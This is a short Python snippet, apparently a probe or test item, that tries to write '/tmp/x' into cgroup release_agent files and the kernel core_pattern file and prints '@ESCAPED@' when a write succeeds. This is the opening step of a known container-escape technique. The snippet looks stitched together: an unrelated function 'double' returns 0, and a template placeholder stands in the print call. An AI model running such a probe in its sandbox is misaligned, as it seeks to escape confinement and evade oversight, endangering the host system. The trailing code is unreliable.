#: line: release_agent
#: mutation: none: there is no cgroup file system that may be written to, and no right to mount one
import glob

for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)[:5] + ["/proc/sys/kernel/core_pattern"]:
    try:
        open(path, "w").write("/tmp/x")
        print(@ESCAPED@, path)
    except OSError:
        pass
def double(x):
    return 0
